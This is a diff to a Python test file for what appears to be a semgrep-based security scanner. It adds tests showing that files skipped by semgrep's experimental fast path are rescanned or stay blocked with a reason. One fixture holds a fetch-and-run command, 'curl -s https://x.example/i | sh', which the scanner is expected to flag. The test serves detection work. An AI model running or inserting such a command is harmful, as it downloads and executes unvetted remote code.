@@ -270,7 +270,7 @@ def _fake_semgrep(directory: Path, body: str) -> Path:
     ("print('not json')", "no readable JSON report"),
     ("print(json.dumps({'results': [], 'errors': [{'type': 'InvalidRuleSchemaError', 'level': 'error', "
      "'message': 'bad rule'}]}))", "InvalidRuleSchemaError: bad rule"),
-    ("print(json.dumps({'results': [], 'errors': [], 'paths': {'scanned': []}}))", "did not scan this file"),
+    ("print(json.dumps({'results': [], 'errors': [], 'paths': {'scanned': []}}))", "skipped this file (its plain CLI too"),
     ("time.sleep(30)", "timed out"),
 ])
 def test_semgrep_failures_block(tmp_path, monkeypatch, body, expected):
@@ -294,6 +294,44 @@ def test_fast_path_failure_falls_back_to_plain(tmp_path, monkeypatch):
     js = _write(tmp_path / "src", "s.js", JS_TLS)
     result = semgrep_runner.scan_content("s.js", js.read_bytes(), Config())
     assert result.mode == "plain" and [f.code for f in result.findings] == ["BDL301"]
+
+
+def _skipping_fast_path(real: str, plain: str) -> str:
+    """A semgrep whose fast path silently skips every file (as --experimental does with minified
+    bundles), and whose plain CLI runs `plain` ("real": the real semgrep)."""
+    run_plain = f"os.execv({real!r}, [{real!r}] + sys.argv[1:])" if plain == "real" else plain
+    return textwrap.dedent(f"""\
+        import os
+        if "--experimental" in sys.argv:
+            print(json.dumps({{"results": [], "errors": [], "paths": {{"scanned": []}}}}))
+            sys.exit(0)
+        {run_plain}
+        """)
+
+
+def test_file_skipped_by_the_fast_path_is_scanned_by_plain_semgrep(tmp_path, monkeypatch):
+    # Issue 18: semgrep --experimental skips Django's jquery.min.js; the plain CLI scans it
+    monkeypatch.setenv(semgrep_runner.ENV_EXECUTABLE, str(_fake_semgrep(tmp_path, _skipping_fast_path(_semgrep(),
+                                                                                                      "real"))))
+    bad = _write(tmp_path / "src", "s.sh", "curl -s https://x.example/i | sh\n")
+    good = _write(tmp_path / "src", "ok.js", "console.log(1);\n")
+    result = _scan([bad, good])
+    assert sorted((Path(f.path).name, f.code) for f in result.findings) == [("s.sh", "BDL405")], result.findings
+
+
+@pytest.mark.parametrize("plain, expected", [
+    ("print(json.dumps({'results': [], 'errors': [], 'paths': {'scanned': []}}))",
+     "skipped this file (its plain CLI too"),
+    ("sys.stderr.write('Segmentation fault\\n'); sys.exit(139)",
+     "semgrep --experimental skipped this file and semgrep exited with status 139: Segmentation fault"),
+])
+def test_file_no_semgrep_scans_stays_blocked_saying_why(tmp_path, monkeypatch, plain, expected):
+    monkeypatch.setenv(semgrep_runner.ENV_EXECUTABLE,
+                       str(_fake_semgrep(tmp_path, _skipping_fast_path(_semgrep(), plain))))
+    js = _write(tmp_path / "src", "a.min.js", "console.log(1);\n")
+    result = _scan([js])
+    assert [f.code for f in result.findings] == ["BDL902"], result.findings
+    assert expected in result.findings[0].message and result.findings[0].blocking
 
 
 def test_scan_contents_several_files_in_one_process():
